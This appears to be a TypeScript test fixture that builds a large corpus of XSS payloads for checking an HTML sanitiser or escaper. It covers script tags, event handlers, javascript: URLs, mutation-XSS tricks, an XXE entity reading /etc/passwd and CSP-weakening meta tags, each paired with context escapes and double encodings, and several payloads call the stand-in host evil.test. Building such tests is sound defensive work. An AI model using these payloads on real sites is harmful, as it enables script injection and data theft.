import type { HostileClass } from './hostile-strings.ts';

/** What every payload would do if it ran: seen by a hook in the page, and as a request. */
export const act = 'window.owned=1;fetch("https://evil.test/ran")';
const short = 'owned=1';
const evil = 'https://evil.test';

/** Markup that runs something, or asks for something, without anybody touching it. */
const elements = [
  `<script>${act}</script>`,
  `<script src=${evil}/x.js></script>`,
  `<script type=module>import "${evil}/m.js"</script>`,
  `<scr<script>ipt>${short}</scr</script>ipt>`,
  `<script\n>${short}</script\t>`,
  `<script/x>${short}</script>`,
  `<img src=x onerror=${short}>`,
  `<img src=${evil}/pixel>`,
  `<img srcset="${evil}/a 1x" sizes=1px>`,
  `<image href=${evil}/p onerror=${short}>`,
  `<picture><source srcset=${evil}/s><img></picture>`,
  `<svg onload=${short}>`,
  `<svg/onload=${short}//`,
  `<svg><script>${short}</script></svg>`,
  `<svg><image href=${evil}/i></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${short}>#x"/></svg>`,
  `<svg><animate onbegin=${short} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${short}>`,
  `<svg><foreignObject><body onload=${short}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${short}></style></svg>`,
  `<math><mi xlink:href="data:x,<script>${short}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${short}>`,
  `<body onload=${short}>`,
  `<iframe src=javascript:parent.${short}>`,
  `<iframe srcdoc="<script>parent.${short}</script>">`,
  `<iframe src=${evil}/frame>`,
  `<frameset onload=${short}>`,
  `<object data=javascript:${short}>`,
  `<object data=${evil}/o>`,
  `<embed src=${evil}/e>`,
  `<applet code=${evil}/a>`,
  `<video src=${evil}/v onerror=${short} autoplay>`,
  `<video poster=${evil}/poster>`,
  `<video><source onerror=${short}></video>`,
  `<audio src=x onerror=${short}>`,
  `<track src=${evil}/t default>`,
  `<input autofocus onfocus=${short}>`,
  `<input type=image src=${evil}/b>`,
  `<select autofocus onfocus=${short}>`,
  `<textarea autofocus onfocus=${short}>`,
  `<details open ontoggle=${short}>`,
  `<dialog open onbeforetoggle=${short}>`,
  `<marquee onstart=${short}>`,
  `<keygen autofocus onfocus=${short}>`,
  `<a autofocus tabindex=1 onfocus=${short} href=x>`,
  `<p style=animation-name:x onanimationstart=${short}>`,
  `<p contenteditable autofocus onfocus=${short}>`,
  `<form action=javascript:${short}><button formaction=javascript:${short}>`,
  `<a href=javascript:${short}>Click</a>`,
  `<a href=${evil}/a ping=${evil}/ping>x</a>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=preload as=script href=${evil}/p.js>`,
  `<link rel=prefetch href=${evil}/p>`,
  `<link rel=dns-prefetch href=//evil.test>`,
  `<link rel=modulepreload href=${evil}/m>`,
  `<link rel=manifest href=${evil}/m.json>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href=${evil}/>`,
  `<style>@import "${evil}/x.css"</style>`,
  `<style>*{background:url(${evil}/bg)}</style>`,
  `<template><img src=x onerror=${short}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${short}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${short}>">`,
  `<title><img src=x onerror=${short}></title>`,
  `<xmp><img src=x onerror=${short}></xmp>`,
  `<plaintext><img src=x onerror=${short}>`,
  `<form><input name=attributes><input name=parentNode>`,
  `<img name=currentScript><a id=owned><a id=owned name=x>`,
  `<?xml-stylesheet href="javascript:${short}"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<![CDATA[<script>${short}</script>]]>`,
  `<!--><img src=x onerror=${short}>-->`,
  `<!--[if IE]><script>${short}</script><![endif]-->`,
  `<xss-element is=x onclick=${short}>`,
  `<portal src=${evil}/p>`,
  `<fencedframe src=${evil}/f>`,
];

/** Ways out of where a value stands, in front of the markup. */
const waysOut = [
  '',
  '">',
  "'>",
  '`>',
  '</bdi></dd>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '\\">',
];

type Writing = (text: string) => string;
const each = (text: string, write: (code: number) => string): string =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const hex = (code: number, length: number): string => code.toString(16).padStart(length, '0');

/** The same markup as it looks before somebody decodes it once too often. */
const writings: Readonly<Record<string, Writing>> = {
  capitals: (text) => text.replace(/<\/?[a-z]+/g, (name) => name.toUpperCase()),
  entities: (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  'entities twice': (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  'numbered entities': (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#x3e;'),
  percent: (text) => encodeURIComponent(text),
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'JavaScript escapes': (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\u003e'),
  'wide letters': (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  'UTF-7': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  'a null byte': (text) => text.replace('<', '<\u0000'),
  base64: (text) => Buffer.from(text).toString('base64'),
  'all as references': (text) => each(text.slice(0, 60), (code) => `&#x${hex(code, 4)};`),
};

const handlers = [
  ...['abort', 'animationend', 'auxclick', 'beforecopy', 'beforeinput', 'blur', 'canplay', 'click'],
  ...['contextmenu', 'copy', 'dblclick', 'drag', 'dragenter', 'drop', 'error', 'focus', 'focusin'],
  ...[
    'formdata',
    'gotpointercapture',
    'input',
    'invalid',
    'keydown',
    'load',
    'message',
    'mouseover',
  ],
  ...[
    'paste',
    'pointerenter',
    'pointerrawupdate',
    'scroll',
    'scrollend',
    'securitypolicyviolation',
  ],
  ...['selectionchange', 'slotchange', 'submit', 'toggle', 'touchstart', 'transitionend', 'wheel'],
];
const quotes = ['"', "'", '`', ' ', '\n', '/'];

/** Markup and attributes, in every way out of a place, and in every writing. */
export const markupClasses: readonly HostileClass[] = [
  { kind: 'markup', texts: waysOut.flatMap((out) => elements.map((element) => out + element)) },
  {
    kind: 'markup written otherwise',
    texts: Object.values(writings).flatMap((write) => elements.map(write)),
  },
  {
    kind: 'attribute',
    texts: handlers.flatMap((name) =>
      quotes.map((quote) => `x${quote} on${name}=${quote}${short}${quote} autofocus tabindex=0 `),
    ),
  },
];
